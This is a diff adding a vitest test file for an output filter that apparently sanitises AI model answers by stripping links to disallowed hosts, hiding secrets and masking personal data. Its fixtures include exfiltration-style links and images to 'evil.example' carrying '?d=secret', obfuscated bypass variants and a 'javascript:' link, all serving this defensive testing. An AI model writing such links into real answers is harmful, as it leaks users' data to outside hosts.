@@ -1,0 +1,159 @@
+import { describe, expect, it } from "vitest";
+import { defaultTenantPolicy, type TenantPolicy } from "../tenant-policy.ts";
+import type { Evidence } from "../turn.ts";
+import { createOutputFilter } from "./create-output-filter.ts";
+
+function policyWith(guards: Partial<TenantPolicy["guards"]>): TenantPolicy {
+  return { ...defaultTenantPolicy, guards: { ...defaultTenantPolicy.guards, ...guards } };
+}
+
+const open = policyWith({ linkHosts: ["docs.example.com", "*.trusted.example"] });
+const strict = policyWith({ linkHosts: ["docs.example.com"], masksPersonalDataInAnswers: true });
+
+function filtered(deltas: string[], policy = open, evidence: Evidence[] = []): string {
+  const filter = createOutputFilter({ policy, evidence });
+  return deltas.map((delta) => filter.push(delta)).join("") + filter.end();
+}
+
+const key = `sk-${"aB3dE5gH7jK9".repeat(3)}`;
+const pem = `-----BEGIN RSA PRIVATE KEY-----\n${"MIIEpAIBAAKCAQEA7Zq3".repeat(90)}\n-----END RSA PRIVATE KEY-----`;
+
+/** What a model writes, and what of it is shown. */
+const answers: [name: string, written: string, shown: string, policy?: TenantPolicy][] = [
+  ["plain text and marks", "Two years [1], or three [2][3]. Fine!", "Two years [1], or three [2][3]. Fine!"],
+  [
+    "a link to an allowed host",
+    "See [it](https://docs.example.com/a?b=c) now.",
+    "See [it](https://docs.example.com/a?b=c) now.",
+  ],
+  [
+    "a link to a host under an allowed one",
+    "[x](https://a.trusted.example/y)",
+    "[x](https://a.trusted.example/y)",
+  ],
+  ["a link to another host", "See [it](https://evil.example/?d=secret) now.", "See [it] (evil.example) now."],
+  ["a picture from another host", "![chart](https://evil.example/p.png?d=secret)", "![chart] (evil.example)"],
+  ["a link with a title", '[a](https://evil.example/?d=1 "title") b', "[a] (evil.example) b"],
+  ["an address on the next line", "[a](\nhttps://evil.example/?d=1) b", "[a] (evil.example) b"],
+  ["an address in angle brackets", "[a](<https://evil.example/?d=1>) b", "[a] (evil.example) b"],
+  [
+    "an address that only looks allowed",
+    "[a](https://docs.example.com@evil.example/?d=1)",
+    "[a] (evil.example)",
+  ],
+  ["an address behind a backslash", "[a](https:\\\\evil.example/?d=1)", "[a] (link removed)"],
+  ["an address with an entity", "[a](https&#58;//evil.example/?d=1)", "[a] (link removed)"],
+  ["an address without a scheme", "[a](//evil.example/?d=1)", "[a] (link removed)"],
+  [
+    "an address after a mark that is dropped",
+    "[a]【9】(https&#58;//evil.example/?d=1)",
+    "[a]【9】 (link removed)",
+  ],
+  ["an address with marks in it that are dropped", "https:[9]//evil.example/?d=1", "link removed"],
+  ["an address with other marks in it", "https【9】://evil.example/?d=1", "link removed"],
+  ["a path with a mark in it that is dropped", "![a](/[9]/evil.example/?d=1)", "![a] (link removed)"],
+  ["a script", "[a](javascript:alert(1))", "[a] (link removed)"],
+  ["a bare address", "Go to https://evil.example/?d=secret, please.", "Go to evil.example, please."],
+  [
+    "a bare address without a scheme",
+    "Go to www.evil.example/?d=secret, please.",
+    "Go to evil.example, please.",
+  ],
+  ["an autolink", "Go to <https://evil.example/?d=secret>.", "Go to <evil.example>."],
+  ["a definition", "[a]: https://evil.example/?d=secret\n\n[b][a]", "[a]: evil.example\n\n[b][a]"],
+  ["code that looks like a link", "call handlers[i](event) here", "call handlers[i](event) here"],
+  ["an issued key", `The key is ${key}.`, "The key is [API key hidden]."],
+  ["a private key", `Here:\n${pem}\nThat's it.`, "Here:\n[private key hidden]\nThat's it."],
+  ["a password", "Use password: Tr0ub4dor&3 to sign in.", "Use password: [password hidden] to sign in."],
+  ["a password in an address", "postgres://app:hunter2secret@db", "db"],
+  [
+    "a word about passwords",
+    "Your password: required, and longer than 8 characters.",
+    "Your password: required, and longer than 8 characters.",
+  ],
+  ["personal data where the policy leaves it", "Write to ann@example.com.", "Write to ann@example.com."],
+  ["an e-mail address", "Write to ann@example.com.", "Write to [e-mail address hidden].", strict],
+  [
+    "a card number in groups",
+    "Card 4111 1111 1111 1111 is valid.",
+    "Card [card number hidden] is valid.",
+    strict,
+  ],
+  [
+    "an account number in groups",
+    "Pay to GB82 WEST 1234 5698 7654 32 today.",
+    "Pay to [bank account hidden] today.",
+    strict,
+  ],
+  ["a phone number", "Call +49 30 1234 5678 now.", "Call [phone number hidden] now.", strict],
+  [
+    "a postal address",
+    "Send it to 221 Baker Street, London today.",
+    "Send it to [postal address hidden] today.",
+    strict,
+  ],
+  [
+    "a date of birth",
+    "She was born on 12 March 1984 in Rome.",
+    "She was born on [date of birth hidden] in Rome.",
+    strict,
+  ],
+  [
+    "numbers that are nobody's",
+    "In 2023 we sold 1,200,000 units at 19.99 for 12 months.",
+    "In 2023 we sold 1,200,000 units at 19.99 for 12 months.",
+    strict,
+  ],
+  ["a language without spaces", "保修期为两年[1]。请参阅手册。", "保修期为两年[1]。请参阅手册。", strict],
+];
+
+describe("the output filter", () => {
+  it.each(answers)("shows %s as it should be", (_, written, shown, policy) => {
+    expect(filtered([written], policy)).toBe(shown);
+  });
+
+  it.each(answers)("shows %s the same wherever the text is cut", (_, written, shown, policy) => {
+    for (let at = 1; at < written.length; at += written.length > 500 ? 97 : 1)
+      expect(filtered([written.slice(0, at), written.slice(at)], policy), `cut at ${at}`).toBe(shown);
+    expect(filtered([...written], policy)).toBe(shown);
+  });
+
+  it("holds back no more than the last word of plain text", () => {
+    const filter = createOutputFilter({ policy: open });
+    expect(filter.push("The warranty lasts two ye")).toBe("The warranty lasts two ");
+    expect(filter.push("ars. ")).toBe("years. ");
+    expect(filter.push("保修期为两年")).toBe("保修期为两年");
+  });
+
+  it("leaves addresses as text that stand in the evidence, and those alone", () => {
+    const text = "Apply at https://hr.example.org/leave?form=7 in time.";
+    const evidence = [{ n: 1, chunk: { text } }] as Evidence[];
+    const written = "[Apply](https://hr.example.org/leave?form=7) or https://hr.example.org/leave?form=8.";
+    expect(filtered([written], open, evidence)).toBe(
+      "[Apply] (https://hr.example.org/leave?form=7) or hr.example.org.",
+    );
+  });
+
+  it("goes on after a text that broke off", () => {
+    const filter = createOutputFilter({ policy: open });
+    const first = filter.push("See [it](https://evil.exam");
+    expect(first + filter.end()).not.toContain("https");
+    expect(filter.push("Next sentence. ")).toContain("Next sentence. ");
+  });
+
+  it("says what it found, without the text", () => {
+    const filter = createOutputFilter({ policy: strict });
+    filter.push(`ann@example.com bob@example.com ${key} [a](https://evil.example/x)`);
+    filter.end();
+    expect(filter.findings()).toEqual([
+      { finding: "personal-data", what: "e-mail address", count: 2 },
+      { finding: "secret", what: "API key", count: 1 },
+      { finding: "link", what: "evil.example", count: 1 },
+    ]);
+  });
+
+  it("gives no text without an end more than its limit", () => {
+    const filter = createOutputFilter({ policy: strict });
+    expect(filter.push("x".repeat(5_000)).length).toBeGreaterThan(0);
+  });
+});
